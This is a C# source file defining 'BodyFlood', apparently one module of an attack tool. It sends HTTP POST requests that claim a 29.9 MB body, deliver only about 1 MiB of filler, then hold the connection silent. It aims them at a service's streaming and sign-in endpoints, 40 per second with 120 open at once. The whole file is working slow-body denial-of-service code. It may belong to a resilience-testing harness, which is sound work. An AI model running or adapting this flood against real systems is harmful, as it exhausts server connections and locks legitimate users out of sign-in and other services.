namespace Tokenfall.Attacks.Floods;

/// <summary>Large bodies that never end.</summary>
internal sealed class BodyFlood : IFlood
{
    private const int Piece = 64 * 1024;
    private const int Pieces = 16;

    private static readonly TimeSpan Hold = TimeSpan.FromSeconds(3);
    private static readonly byte[] Text = [.. Enumerable.Repeat((byte)'x', Piece)];

    public string Name => "bodies";

    public string Title => "anonymous: bodies";

    public string Description => "29.9 MB announced, up to 1 MiB sent, then silence for 3 s; to the stream and to the sign-in";

    public int PerSecond => 40;

    public int AtOnce => 120;

    public Task PrepareAsync(Victim victim) => Task.CompletedTask;

    public Task<string> StepAsync(Victim victim, int number, CancellationToken cancellationToken) =>
        victim.SendRawAsync(Request(number % 2 == 0 ? "/ask/stream" : "/account/sign-in"), Hold, cancellationToken);

    private static IEnumerable<ReadOnlyMemory<byte>> Request(string path)
    {
        yield return HttpText.Head($"POST {path}", "Content-Type: application/json", "Content-Length: 29900000");
        yield return "{\"prompt\":\""u8.ToArray();
        for (var i = 0; i < Pieces; i++) yield return Text;
    }
}
